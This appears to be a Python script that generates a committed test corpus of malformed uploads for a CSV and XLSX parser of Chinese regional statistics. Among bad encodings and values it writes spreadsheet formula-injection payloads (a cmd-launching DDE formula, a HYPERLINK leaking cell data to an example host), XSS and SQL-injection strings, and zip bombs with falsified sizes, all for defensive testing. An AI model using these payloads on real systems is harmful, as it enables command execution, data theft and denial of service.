"""Write the bad-input corpus (cases.toml says what each file must get back); the outputs are committed.

`python make_corpus.py` rewrites the committed files byte for byte (a test checks that it still does);
`python make_corpus.py --bombs DIR` writes the workbooks that unpack to hundreds of megabytes, which the
tests build at run time instead of committing.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
STAMP = (2020, 1, 1, 0, 0, 0)  # fixed zip timestamps: the same bytes on every run
HEADER = "地区,指标,年份,数值"
GOOD = [("兰州市", "专利授权量", "2023", "5,120"), ("白银市", "专利授权量", "2023", "640")]
XSS = ("<img src=x onerror=alert(1)>", "</script><script>alert(2)</script>")


def table(rows: list[tuple[str, ...]], header: str = HEADER) -> str:
    return "\r\n".join([header, *(",".join(r) for r in rows)]) + "\r\n"


def good_with(*rows: tuple[str, ...]) -> str:
    """A clean two-row file plus the given bad rows (so the report must point at the right lines)."""
    return table([*GOOD, *rows])


# ---- XLSX written by hand: fixed bytes, and cells exactly as wanted (formulas, date styles, bombs) ----

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="数据" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
    'Target="styles.xml"/>'
    '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'sharedStrings" Target="sharedStrings.xml"/></Relationships>')
# Style 1 is Excel's built-in date format 14 (m/d/yyyy): a number in such a cell reads back as a date.
STYLES = ('<?xml version="1.0" encoding="UTF-8"?>'
          '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
          '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
          '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
          '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs>'
          '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>')
SHEET_OPEN = ('<?xml version="1.0" encoding="UTF-8"?>'
              '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
SHEET_CLOSE = "</sheetData></worksheet>"
EMPTY_SST = ('<?xml version="1.0" encoding="UTF-8"?>'
             '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"/>')

Cell = str | int | float | tuple[str, object]


def cell(ref: str, value: Cell) -> str:
    """A cell: text inline, numbers as numbers, ("f", formula) with no saved result, ("date", serial) date-styled."""
    if isinstance(value, tuple):
        kind, v = value
        return f'<c r="{ref}"><f>{escape(str(v))}</f></c>' if kind == "f" else f'<c r="{ref}" s="1"><v>{v}</v></c>'
    if isinstance(value, str):
        return f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>'
    return f'<c r="{ref}"><v>{value}</v></c>'


def sheet_xml(rows: list[list[Cell]]) -> str:
    body = "".join(f'<row r="{i}">' + "".join(cell(f"{chr(65 + j)}{i}", v) for j, v in enumerate(r)) + "</row>"
                   for i, r in enumerate(rows, 1))
    return SHEET_OPEN + body + SHEET_CLOSE


def xlsx(parts: dict[str, bytes | str]) -> bytes:
    """A workbook zip from named parts (the standard ones unless given), deflated, with fixed timestamps."""
    names = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELS, "xl/workbook.xml": WORKBOOK,
             "xl/_rels/workbook.xml.rels": WORKBOOK_RELS, "xl/styles.xml": STYLES,
             "xl/sharedStrings.xml": EMPTY_SST} | parts
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in names.items():
            info = zipfile.ZipInfo(name, STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)
    return buf.getvalue()


def workbook(rows: list[list[Cell]]) -> bytes:
    return xlsx({"xl/worksheets/sheet1.xml": sheet_xml(rows)})


HEAD_CELLS: list[Cell] = ["地区", "指标", "年份", "数值"]


def lying_sizes(data: bytes, member: str, declared: int) -> bytes:
    """The zip with one member's uncompressed size rewritten (local header and central directory) to a lie."""
    out = bytearray(data)
    name = member.encode()
    for sig, size_at, name_len_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        pos = out.find(sig)
        while pos != -1:
            (n,) = struct.unpack_from("<H", out, pos + name_len_at)
            if bytes(out[pos + name_at:pos + name_at + n]) == name:
                struct.pack_into("<I", out, pos + size_at, declared)
            pos = out.find(sig, pos + 4)
    return bytes(out)


def bomb(member: str, opening: bytes, filler: bytes, closing: bytes, size: int) -> bytes:
    """A workbook whose `member` unpacks to about `size` bytes of repeated filler (a zip bomb), deflated as it
    is written, never held whole in memory."""
    base = workbook([HEAD_CELLS, ["兰州市", "专利授权量", 2023, 5120]])
    block = filler * (1_000_000 // len(filler))
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(buf, "w", compresslevel=9) as z:
        for item in src.infolist():
            if item.filename != member:
                z.writestr(item, src.read(item.filename))
        info = zipfile.ZipInfo(member, STAMP)
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w") as f:
            f.write(opening)
            for _ in range(size // len(block)):
                f.write(block)
            f.write(closing)
    return buf.getvalue()


def sheet_bomb(size: int) -> bytes:
    """sheet1.xml: a real header row, then `size` bytes of whitespace between the elements."""
    opening = (SHEET_OPEN + '<row r="1">' + "".join(cell(f"{chr(65 + j)}1", v) for j, v in enumerate(HEAD_CELLS))
               + "</row>").encode()
    return bomb("xl/worksheets/sheet1.xml", opening, b" " * 1000, SHEET_CLOSE.encode(), size)


def strings_bomb(size: int) -> bytes:
    """sharedStrings.xml: `size` bytes of tiny shared strings, each one a Python object once loaded."""
    opening = b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    return bomb("xl/sharedStrings.xml", opening, b"<si><t>a</t></si>" * 10, b"</sst>", size)


def png() -> bytes:
    """A valid 1x1 PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))


def corpus() -> dict[str, Callable[[], bytes | str]]:
    """Every committed file: name -> bytes (text is written as UTF-8)."""
    gbk_rows = table(GOOD).encode("gbk")
    return {
        # Not a table at all
        "empty.csv": lambda: b"",
        "blank-lines.csv": lambda: b"\r\n   \r\n\t\r\n",
        "header-only.csv": lambda: table([]).encode(),
        "header-only-gbk.csv": lambda: table([]).encode("gbk"),
        "binary-junk.csv": lambda: random.Random(5).randbytes(4096),
        "png-renamed.csv": png,
        "nul-in-text.csv": lambda: good_with(("天水市", "专利授权量", "2023", "1\x0023")).encode(),
        "prose.csv": lambda: "这不是表格，只是一段说明文字。\r\nJust a sentence.\r\n".encode(),
        "huge-quoted-field.csv": lambda: (HEADER + '\r\n"' + "x" * 140_000 + '",专利授权量,2023,1\r\n').encode(),
        # Encodings and byte-order marks
        "utf16le-no-bom.csv": lambda: table(GOOD).encode("utf-16-le"),
        "utf16-bom-odd-length.csv": lambda: b"\xff\xfe" + table(GOOD).encode("utf-16-le") + b"A",
        "utf8-bom-on-gbk.csv": lambda: b"\xef\xbb\xbf" + gbk_rows,
        "bom-only.csv": lambda: b"\xef\xbb\xbf",
        "double-bom.csv": lambda: ("\ufeff\ufeff" + table(GOOD)).encode(),
        "bom-mid-file.csv": lambda: table(GOOD).encode() + ("\ufeff" + table([("天水市", "专利授权量", "2023",
                                                                                  "900")])).encode(),
        "mixed-utf8-gbk.csv": lambda: (HEADER + "\r\n").encode() + "兰州市,专利授权量,2023,5120\r\n".encode() + (
            "白银市,专利授权量,2023,640\r\n").encode("gbk"),
        "big5.csv": lambda: "地區,指標,年份,數值\r\n蘭州市,專利授權量,2023,5120\r\n".encode("big5"),
        "shift-jis.csv": lambda: "地域,指標,年,値\r\n蘭州市,特許,2023,5120\r\n".encode("shift_jis"),
        "cp1252.csv": lambda: "region,indicator,year,value\r\nLanzhou Café,patent_grants,2023,5120\r\n".encode(
            "cp1252"),
        # Regions
        "unknown-regions.csv": lambda: good_with(("火星市", "专利授权量", "2023", "1"),
                                                 ("Atlantis", "专利授权量", "2023", "2"),
                                                 ("620999", "专利授权量", "2023", "3")),
        "duplicate-regions.csv": lambda: good_with(("兰州市", "专利授权量", "2023", "5,121")),
        "duplicate-by-alias.csv": lambda: good_with(("兰州", "专利授权量", "2023", "5,120")),
        "totals-only.csv": lambda: table([("合计", "专利授权量", "2023", "5,760")]),
        "totals-and-unknown.csv": lambda: good_with(("全省合计", "专利授权量", "2023", "5,760"),
                                                    ("兰州市区", "专利授权量", "2023", "100")),
        # Values
        "negative-values.csv": lambda: good_with(("天水市", "专利授权量", "2023", "-35")),
        "non-numeric-values.csv": lambda: good_with(("天水市", "专利授权量", "2023", "一百"),
                                                    ("武威市", "专利授权量", "2023", "12a"),
                                                    ("张掖市", "专利授权量", "2023", "1.2.3")),
        "huge-number.csv": lambda: good_with(("天水市", "专利授权量", "2023", "1e400")),
        "dates-as-years.csv": lambda: good_with(("天水市", "专利授权量", "2023-01-01", "900")),
        "excel-serial-years.csv": lambda: good_with(("天水市", "专利授权量", "44927", "900")),
        "dates-as-values.csv": lambda: good_with(("天水市", "专利授权量", "2023", "2023/5/6")),
        # Formulas (cells a spreadsheet would run)
        "formula-values.csv": lambda: good_with(("天水市", "专利授权量", "2023", "=1+1"),
                                                ("武威市", "专利授权量", "2023", "+1+cmd|' /C calc'!A0"),
                                                ("张掖市", "专利授权量", "2023", "-2+3"),
                                                ("平凉市", "专利授权量", "2023", "@SUM(A1:A2)")),
        "formula-region.csv": lambda: good_with(('=HYPERLINK("http://x.example/?"&A1)', "专利授权量", "2023", "1")),
        "formula-source-column.csv": lambda: table([("兰州市", "专利授权量", "2023", "5120", "=cmd|' /C calc'!A0")],
                                                   HEADER + ",来源"),
        # Markup, SQL and very long text
        "html-region.csv": lambda: good_with((XSS[0], "专利授权量", "2023", "1")),
        "script-region.csv": lambda: good_with((XSS[1], "专利授权量", "2023", "1")),
        "html-indicator.csv": lambda: good_with(("天水市", XSS[0], "2023", "1")),
        "html-source-column.csv": lambda: table([("兰州市", "专利授权量", "2023", "5120", XSS[0])], HEADER + ",来源"),
        "html-note-column.csv": lambda: table([("兰州市", "专利授权量", "2023", "5120", XSS[1])], HEADER + ",备注"),
        "html-header.csv": lambda: table(GOOD, "地区,指标,年份,<b onmouseover=alert(1)>数值</b>"),
        "sql-region.csv": lambda: good_with(("兰州市'; DROP TABLE observations;--", "专利授权量", "2023", "1")),
        "sql-indicator.csv": lambda: good_with(("天水市", "patent_grants' OR '1'='1", "2023", "1")),
        "long-region.csv": lambda: good_with(("兰" * 20_000, "专利授权量", "2023", "1")),
        "long-number.csv": lambda: good_with(("天水市", "专利授权量", "2023", "9" * 50_000)),
        "many-columns.csv": lambda: table([("兰州市", *["1"] * 3_000)], "地区," + ",".join(
            f"列{i}" for i in range(3_000))),
        # Workbooks
        "not-a-zip.xlsx": lambda: b"PK\x03\x04" + random.Random(6).randbytes(2048),
        "legacy.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        "zip-not-workbook.xlsx": lambda: _plain_zip(),
        "formula-cells.xlsx": lambda: workbook([HEAD_CELLS, ["兰州市", "专利授权量", 2023, ("f", "SUM(D3:D4)")],
                                                ["白银市", "专利授权量", 2023, ("f", "1+1")]]),
        "dates-as-numbers.xlsx": lambda: workbook([HEAD_CELLS, ["兰州市", "专利授权量", ("date", 44927), 5120]]),
        "html-names.xlsx": lambda: workbook([HEAD_CELLS, [XSS[0], "专利授权量", 2023, 1], ["兰州市", XSS[1], 2023, 1]]),
        "empty-sheet.xlsx": lambda: workbook([]),
        "ratio-bomb.xlsx": lambda: sheet_bomb(30_000_000),
        "lying-size.xlsx": lambda: lying_sizes(sheet_bomb(20_000_000), "xl/worksheets/sheet1.xml", 4096),
    }


def _plain_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("readme.txt", STAMP), "a zip, but no workbook")
    return buf.getvalue()


def bombs() -> dict[str, Callable[[], bytes]]:
    """Built at test time: these unpack past the 200 MB limit, or fill memory with shared strings."""
    return {"size-bomb.xlsx": lambda: sheet_bomb(260_000_000),
            "shared-strings-bomb.xlsx": lambda: strings_bomb(150_000_000)}


def main(argv: list[str]) -> None:
    if argv[:1] == ["--bombs"]:
        out = Path(argv[1])
        for name, make in bombs().items():
            (out / name).write_bytes(make())
        return
    for name, make in corpus().items():
        data = make()
        (HERE / name).write_bytes(data.encode() if isinstance(data, str) else data)


if __name__ == "__main__":
    main(sys.argv[1:])
